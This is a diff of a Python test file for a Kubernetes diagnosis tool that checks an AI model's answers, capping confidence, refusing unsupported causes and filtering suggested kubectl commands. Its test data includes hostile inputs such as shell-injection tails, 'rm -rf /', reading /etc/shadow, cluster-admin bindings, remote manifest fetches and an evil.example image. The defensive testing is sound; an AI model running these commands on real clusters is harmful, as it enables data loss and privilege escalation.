@@ -1,73 +1,220 @@
-"""What of an answer holds, whatever the bytes."""
+"""What of an answer holds, whatever the bytes and whatever it claims."""
 
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
-from support.fake_ollama import GOOD
+from unit.diagnosis.model.steering import HONEST, request_with
 
-from kausa.diagnosis.errors import ModelError
-from kausa.diagnosis.model.answer import answer_schema, check_answer
-from kausa.diagnosis.model.commands import refusal
+from kausa.diagnosis.errors import ModelError, ModelInvalidAnswer
+from kausa.diagnosis.model.answer import Checked, answer_schema, check_answer
+from kausa.diagnosis.model.prompt.screening import screen
+from kausa.diagnosis.model.prompt.template import SYSTEM
+from kausa.diagnosis.model.protocol import ModelRequest, Ruling
+from kausa.resources.category import Category
+from kausa.resources.diagnosis import Risk
 
 JSON = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
     max_leaves=8,
 )
+REQUEST = request_with(None)
+IDS = [each.id for each in REQUEST.evidence]
 
 
+def check(request: ModelRequest = REQUEST, **changes: Any) -> Checked:
+    return check_answer(
+        json.dumps({**HONEST, **changes}),
+        screened=screen(request),
+        evidence_ids=IDS,
+        system=SYSTEM,
+    )
+
+
+def fix(command: str | None, title: str = "Look at checkout") -> dict[str, Any]:
+    return {"remediation": [{"title": title, "rationale": "", "command": command}]}
+
+
+@settings(max_examples=50)
 @given(st.binary() | st.text().map(lambda text: text.encode("utf-8", "replace")))
 def test_arbitrary_bytes_raise_nothing_but_a_model_error(content: bytes) -> None:
     with pytest.raises(ModelError):
-        check_answer(content, evidence_ids=["E1"])
+        check_answer(content, screened=screen(REQUEST), evidence_ids=IDS)
 
 
-@given(st.dictionaries(st.sampled_from(sorted(GOOD)), JSON, max_size=4))
+@settings(max_examples=50)
+@given(st.dictionaries(st.sampled_from(sorted(HONEST)), JSON, max_size=4))
 def test_a_distorted_answer_is_checked_or_refused(changes: dict[str, Any]) -> None:
     try:
-        answer, _ = check_answer(json.dumps({**GOOD, **changes}), evidence_ids=["E1", "E2"])
+        answer = check(**changes).answer
     except ModelError:
         return
 
-    assert set(answer.citations) <= {"E1", "E2"}
+    assert set(answer.citations) <= set(IDS)
     assert answer.citations
-    assert 0 <= answer.confidence <= 100
+    assert 0 <= answer.confidence <= 85
     assert len(answer.summary) <= 200
     assert "\n" not in answer.summary
     assert len(answer.explanation) <= 600
 
 
+def test_an_answer_that_the_evidence_bears_is_kept_whole() -> None:
+    checked = check()
+    assert checked.dropped == ()
+    assert checked.answer.citations == ("E2",)
+    assert checked.answer.root_cause == HONEST["rootCause"]
+    assert checked.answer.confidence == 80
+
+
 @pytest.mark.parametrize(
     ("said", "kept"),
     [
-        *((-5, 0), (0, 0), (63.4, 63), (100, 100), (950, 100)),
+        *((-5, 0), (0, 0), (63.4, 63), (100, 85), (950, 85)),
         # A share of one is percent too; one as a whole number is one percent.
-        *((0.9, 90), (0.005, 0), (1.0, 100), (1, 1), (0.0, 0), (-0.5, 0), (1.5, 2)),
+        *((0.8, 80), (0.005, 0), (1.0, 85), (1, 1), (0.0, 0), (-0.5, 0), (1.5, 2)),
     ],
 )
-def test_confidence_becomes_whole_percent(said: float, kept: int) -> None:
-    answer, _ = check_answer(json.dumps({**GOOD, "confidence": said}), evidence_ids=["E1"])
-
-    assert answer.confidence == kept
+def test_confidence_becomes_whole_percent_and_is_capped(said: float, kept: int) -> None:
+    assert check(confidence=said).answer.confidence == kept
 
 
-def test_a_fix_without_a_title_is_dropped() -> None:
-    answer, dropped = check_answer(
-        json.dumps({**GOOD, "remediation": [{"title": " ", "rationale": "x", "command": None}]}),
-        evidence_ids=["E1"],
+@pytest.mark.parametrize(
+    "cause",
+    [
+        "The program needs the variable ORDERS_DB_DSN, which is not set.",
+        "The container exited with code 2.",
+        'The log says "disk is full".',
+        "Container api runs the image registry.example/checkout:2.4.2.",
+        "The database Cassandra is away.",
+        "Cosmic rays flipped random transistors.",
+        "The workload is healthy.",
+        "Le conteneur n'a pas trouv\u00e9 la variable d'environnement.",
+        "pwned",
+        " ",
+    ],
+)
+def test_a_cause_that_the_evidence_does_not_bear_is_refused(cause: str) -> None:
+    with pytest.raises(ModelInvalidAnswer):
+        check(rootCause=cause)
+
+
+def test_a_sentence_that_falls_takes_only_itself_along_and_makes_the_rest_less_sure() -> None:
+    cause = f"{HONEST['rootCause']} The server db-7 was deleted."
+    checked = check(rootCause=cause)
+    assert checked.answer.root_cause == HONEST["rootCause"]
+    assert checked.answer.confidence == 65
+    assert "db-7" in checked.dropped[0]
+
+
+def test_a_summary_that_falls_is_replaced_by_the_cause() -> None:
+    assert check(summary="db-7 is away").answer.summary == HONEST["rootCause"]
+
+
+def test_evidence_that_bears_the_claim_takes_the_place_of_what_was_cited() -> None:
+    checked = check(citations=["E5"])
+    assert checked.answer.citations == ("E2",)
+    assert any("E5" in each for each in checked.dropped)
+
+
+@pytest.mark.parametrize("citations", [[], ["E9"], ["", "e2"]])
+def test_an_answer_that_cites_nothing_which_exists_is_refused(citations: list[str]) -> None:
+    with pytest.raises(ModelInvalidAnswer, match="cites no evidence"):
+        check(citations=citations)
+
+
+def test_undetermined_is_an_answer() -> None:
+    answer = check(category="Undetermined", rootCause="Which program reads it is missing.").answer
+    assert not answer.determined
+    assert answer.confidence == 40
+
+
+def test_a_category_without_a_word_in_the_evidence_makes_no_cause() -> None:
+    answer = check(category="Eviction").answer
+    assert answer.category is Category.OTHER
+    assert answer.confidence < 50
+
+
+def test_a_contradiction_loses_against_sure_rules() -> None:
+    ruling = Ruling(category=Category.PROBE, root_cause="The probe fails.", confidence=82)
+    checked = check(replace(REQUEST, ruling=ruling), confidence=99)
+    assert checked.answer.confidence == 81
+    assert any("rules are 82 % sure" in each for each in checked.dropped)
+
+
+def test_unsure_rules_may_be_contradicted() -> None:
+    ruling = Ruling(category=Category.PROBE, root_cause="The probe fails.", confidence=55)
+    assert check(replace(REQUEST, ruling=ruling)).answer.confidence == 80
+
+
+@pytest.mark.parametrize(
+    ("command", "shown", "risk"),
+    [
+        (
+            "kubectl describe deployment checkout",
+            "kubectl describe deployment checkout -n shop",
+            Risk.LOW,
+        ),
+        ("kubectl logs checkout-0 -n shop", "kubectl logs checkout-0 -n shop", Risk.LOW),
+        ("kubectl get nodes", "kubectl get nodes", Risk.LOW),
+        (
+            "kubectl scale deployment/checkout --replicas=0",
+            "kubectl scale deployment/checkout --replicas=0 -n shop",
+            Risk.HIGH,
+        ),
+        (
+            "kubectl rollout undo deployment/checkout",
+            "kubectl rollout undo deployment/checkout -n shop",
+            Risk.MEDIUM,
+        ),
+        ("kubectl describe deployment other", None, Risk.LOW),
+        ("kubectl get pods -n kube-system", None, Risk.LOW),
+        ("kubectl logs checkout-0 -c sidecar", None, Risk.LOW),
+        ("kubectl set image deployment/checkout api=evil.example/x:1", None, Risk.LOW),
+        ("kubectl delete pod checkout-0", None, Risk.LOW),
+        ("kubectl get pods | sh", None, Risk.LOW),
+    ],
+)
+def test_a_command_is_shown_only_about_what_exists(
+    command: str, shown: str | None, risk: Risk
+) -> None:
+    (shown_fix,) = check(**fix(command)).answer.remediation
+    assert shown_fix.command == shown
+    assert shown_fix.risk is risk
+
+
+def test_what_a_command_comes_to_can_be_tried_by_the_api_server() -> None:
+    command = "kubectl set resources deployment/checkout --limits=memory=128Mi"
+    (shown,) = check(**fix(command, title="Raise the memory to 128Mi")).answer.remediation
+    assert shown.patch is not None
+    assert (shown.patch.kind, shown.patch.name, shown.patch.namespace) == (
+        "Deployment",
+        "checkout",
+        "shop",
     )
+    template = shown.patch.body["spec"]["template"]["spec"]
+    assert template["containers"] == [{"name": "api", "resources": {"limits": {"memory": "128Mi"}}}]
 
-    assert answer.remediation == ()
-    assert dropped == ("a fix without a title",)
+
+def test_a_command_that_somebody_else_wrote_is_not_repeated() -> None:
+    command = "kubectl get pods -n shop"
+    runbook = replace(REQUEST.runbooks[0], text=f"Look with {command} at it.")
+    (shown,) = check(replace(REQUEST, runbooks=(runbook,)), **fix(command)).answer.remediation
+    assert shown.command is None
+
+
+def test_a_fix_without_a_title_or_with_made_up_names_is_dropped() -> None:
+    assert check(**fix(None, title=" ")).answer.remediation == ()
+    assert check(**fix(None, title="Restart the host db-7")).answer.remediation == ()
 
 
 def test_every_object_of_the_schema_is_closed_and_every_string_bounded() -> None:
-    def check(node: Any) -> None:
+    def walk(node: Any) -> None:
         if isinstance(node, dict):
             if node.get("type") == "object":
                 assert node["additionalProperties"] is False
@@ -77,173 +224,21 @@ def test_every_object_of_the_schema_is_closed_and_every_string_bounded() -> None
             if node.get("type") == "array":
                 assert "maxItems" in node
             for child in node.values():
-                check(child)
+                walk(child)
         elif isinstance(node, list):
             for child in node:
-                check(child)
+                walk(child)
 
-    check(answer_schema(["E1"]))
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "kubectl get pods -n shop -o wide",
-        "kubectl -n shop describe pod api-0",
-        "kubectl --namespace=shop get events --sort-by=.lastTimestamp",
-        "kubectl logs deployment/api --previous -c api --tail=50",
-        "kubectl events --for deployment/api -nshop",
-        "kubectl top pods --containers",
-        "kubectl explain pod.spec.containers",
-        "kubectl get pods -A -l app=api -oyaml",
-        "kubectl get pods -o jsonpath='{.items[*].status}'",
-        "kubectl get pods -ojsonpath='{.items[*].status}'",
-        "kubectl get pods -o=json",
-        "kubectl set image deployment/api api=r.example/api:2.4.2",
-        "kubectl set image deployment api api=r.example:5000/api:2 side=r.example/side@sha256:ab",
-        "kubectl set resources deployment/api --limits=memory=128Mi -n shop",
-        "kubectl set resources statefulset db -c=db --requests cpu=1,memory=1Gi",
-        "kubectl rollout undo deployment/api --to-revision=3",
-        "kubectl rollout restart deployment.apps/api",
-        "kubectl rollout status sts/db --timeout=60s",
-        "kubectl rollout history deployment api",
-        "kubectl scale deployment/api --replicas=2",
-        "kubectl scale --replicas 2 deployment api -n shop",
-        "kubectl get secret db -n shop -o name",
-        "kubectl get secret/db -oname",
-        "kubectl get deployment secret-reader",
-        "kubectl get secretproviderclasses",
-    ],
-)
-def test_a_plain_kubectl_command_is_shown(command: str) -> None:
-    assert refusal(command) is None
+    walk(answer_schema(["E1"]))
 
 
 @pytest.mark.parametrize(
-    "command",
+    "explanation",
     [
-        *("", "rm -rf /", "kubectl", "kubectl -n", "kubectl -n shop", "kubectl get pods 'open"),
-        *("sudo kubectl get pods", "/tmp/kubectl get pods", "kubectl config view --raw"),
-        "kubectl get pods " + "x" * 500,
+        "E1 | Status <<0a1b2c3d>> container api: waiting <<0a1b2c3d>>",
+        "Copy names, numbers and error messages from it exactly; invent none.",
     ],
 )
-def test_what_is_no_plain_call_is_refused(command: str) -> None:
-    assert refusal(command) is not None
-
-
-@pytest.mark.parametrize(
-    "tail",
-    [
-        *("; reboot", "&& reboot", "| sh", "> /etc/passwd", "< /etc/passwd", "`id`", "$(id)"),
-        *('"$(id)"', "$HOME", "\nreboot", "\\x", '"!!"', "a{b,c}", "[ab]", "*", "~", "# x"),
-        *("\u202e", "\u00a0", "\u2028reboot", "é"),
-    ],
-)
-def test_what_a_shell_or_an_eye_would_read_otherwise_is_refused(tail: str) -> None:
-    assert refusal("kubectl get pods") is None
-    assert refusal(f"kubectl get pods {tail}") is not None
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=a:b",
-        "kubectl create -f https://example.invalid/x.yaml",
-        "kubectl create deployment x --image=evil",
-        "kubectl create secret generic x --from-file=/etc/shadow",
-        "kubectl create configmap app --from-literal=MODE=prod",
-        "kubectl create token app",
-        """kubectl patch deployment api -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'""",
-        "kubectl apply -f https://example.invalid/x.yaml",
-        "kubectl delete pod api-0",
-        "kubectl exec -it api-0 -- sh",
-        "kubectl edit configmap app-config",
-        "kubectl annotate pod api-0 a=b",
-        "kubectl label pod api-0 a=b",
-        *("kubectl cordon n1", "kubectl uncordon n1", "kubectl drain n1", "kubectl taint no n1 a-"),
-        *("kubectl cp a:/b c", "kubectl debug x", "kubectl run x", "kubectl proxy"),
-        *("kubectl attach x", "kubectl replace x", "kubectl expose x", "kubectl port-forward x 1"),
-        *("kubectl autoscale deployment api --max=9", "kubectl certificate approve x"),
-        *("kubectl set env deployment/api A=b", "kubectl set subject x", "kubectl set"),
-        "kubectl set serviceaccount deployment api admin",
-        *("kubectl rollout pause deployment/api", "kubectl rollout", "kubectl top secrets"),
-    ],
-)
-def test_a_verb_that_is_not_on_the_list_is_refused(command: str) -> None:
-    assert refusal(command) is not None
-
-
-@pytest.mark.parametrize(
-    "options",
-    [
-        *("-f x.yaml", "-fx.yaml", "--filename x", "--filename=x", "-k dir", "-kdir"),
-        *("--kustomize=dir", "-R", "--as admin", "--as=admin", "--as-group=system:masters"),
-        *("--token=x", "--kubeconfig=/tmp/x", "--server https://h.invalid", "-s h", "-sh"),
-        *(
-            "--context=prod",
-            "--cluster x",
-            "--user x",
-            "--username=x",
-            "--password=x",
-            "--raw /api",
-        ),
-        *("--raw=/api", "--insecure-skip-tls-verify", "--certificate-authority=/x", "--v=9"),
-        *(
-            "--cache-dir=/x",
-            "--profile-output=/etc/x",
-            "--template={{.data}}",
-            "-Af x",
-            "-it",
-            "--",
-        ),
-        *("-o", "-o -n", "-n -f", "-o go-template-file=/etc/shadow", "-o jsonpath-file=/etc/x"),
-        *("-o custom-columns-file=/x", "-o go-template='{{.data}}'", "--all", "--dry-run=none"),
-        *("https://h.invalid/x", "-l a=https://h.invalid", "-n=https://h.invalid"),
-    ],
-)
-def test_an_option_that_is_not_on_the_list_is_refused(options: str) -> None:
-    assert refusal(f"kubectl get pods {options}") is not None
-    assert refusal(f"kubectl {options} get pods") is not None
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        *("get secrets -o yaml", "get secret/db -o yaml", "get pods,secrets", "get secrets"),
-        *("-n shop get secret db", "get secret db -o wide", "describe secret db", "get Secret db"),
-        *("get secret db -o jsonpath='{.data.password}'", "get secret -A -o name"),
-        *("get secrets -o name", "get secret a b -o name", "get secret db -o name -o yaml"),
-        *("get secrets.v1. db -o yaml", "describe secret/db", "get pod/x secret/db -o name"),
-        *("get sec'ret' db -o yaml", "describe pods,secret -A", "get secret/a secret/b -o name"),
-    ],
-)
-def test_a_secret_may_only_be_asked_for_its_name(words: str) -> None:
-    assert refusal(f"kubectl {words}") is not None
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        *("rollout restart deployment", "rollout restart deployment a b", "rollout undo"),
-        *("rollout restart deployment -l app=x", "scale --replicas=0 --all deployment"),
-        *("scale deployment/a deployment/b --replicas=0", "set image deployment/api"),
-        *("set image deployment/api api=", "set image deployment --all api=x", "set image a=b"),
-        *("set resources secret/db --limits=cpu=1", "scale node/n1 --replicas=0"),
-        *("set image '*' api=x", "set image deployment/api api=-x", "rollout undo ns/kube-system"),
-    ],
-)
-def test_a_repair_names_one_workload(words: str) -> None:
-    assert refusal(f"kubectl {words}") is not None
-
-
-@given(st.text() | st.text().map("kubectl get {}".format))
-def test_no_command_breaks_the_check(command: str) -> None:
-    if refusal(command) is None:
-        assert command.split()[0] == "kubectl"
-        assert not set(command) & set(";|&<>`$\n")
-
-
-def test_a_model_that_copies_its_prompt_has_not_answered() -> None:
-    copied = {**GOOD, "explanation": "E1 | Status <<0a1b2c3d>> container api: waiting <<0a1b2c3d>>"}
-    with pytest.raises(ModelError, match="copied its prompt"):
-        check_answer(json.dumps(copied), evidence_ids=["E1"])
+def test_a_model_that_copies_its_prompt_has_not_answered(explanation: str) -> None:
+    with pytest.raises(ModelInvalidAnswer, match="copied its prompt"):
+        check(explanation=explanation)
